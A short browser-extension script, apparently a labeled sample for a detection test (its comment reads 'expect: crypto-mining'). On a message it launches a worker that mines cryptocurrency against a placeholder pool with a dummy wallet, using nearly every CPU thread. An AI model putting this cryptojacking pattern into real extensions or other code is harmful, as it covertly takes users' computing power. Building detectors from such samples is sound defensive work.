let w;

chrome.runtime.onMessage.addListener(m => {
  if (m.run && !w) {
    w = new Worker('rx.js');
    w.postMessage({
      // expect: crypto-mining
      pool: 'wss://xmr.poolhub.example:3333',
      wallet: '4' + '8'.repeat(94),
      algo: 'rx/0',
      threads: navigator.hardwareConcurrency - 1
    });
  } else if (!m.run && w) {
    w.terminate();
    w = null;
  }
});
